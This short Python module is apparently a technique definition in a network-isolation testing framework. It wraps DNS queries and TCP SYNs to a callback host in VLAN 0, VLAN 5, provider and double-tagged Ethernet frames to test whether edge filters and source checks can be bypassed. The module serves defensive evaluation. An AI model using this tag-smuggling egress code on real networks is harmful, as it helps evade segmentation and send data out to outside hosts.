"""A tag of VLAN 0 is taken off before many filters look."""

from typing import Any

from space_evaluate import inside
from space_evaluate.inside import Case
from space_evaluate.technique import BOTH, Technique

TECHNIQUE = Technique(
    tries="Put queries and SYNs into frames with tags: VLAN 0, 5, of the provider, two of them.",
    claim="G3",
    defences=("edge filter and source check",),
    stopped_by=("guest_vlan",),
    policies=BOTH,
    variants={"VLAN 0": [33024, "0"], "VLAN 5": [33024, "5"], "of the provider": [34984, "0"], "two tags": [34984, "two"]},
    quick=True,
)


def attack(case: Case, what: Any) -> None:
    ground = case.ground
    query = inside.udp(inside.question(f"{case.token}.{ground.callback}"), to=ground.gateway, port=53)

    inner = {"0": b"\0\0\x08\0", "5": b"\0\x05\x08\0", "two": b"\0\0\x81\0\0\0\x08\0"}[what[1]]
    packets = [query, inside.tcp(ground.callback_at, 443)]
    case.frames(*(inside.ether(inner + one, kind=what[0]) for one in packets), rounds=3)
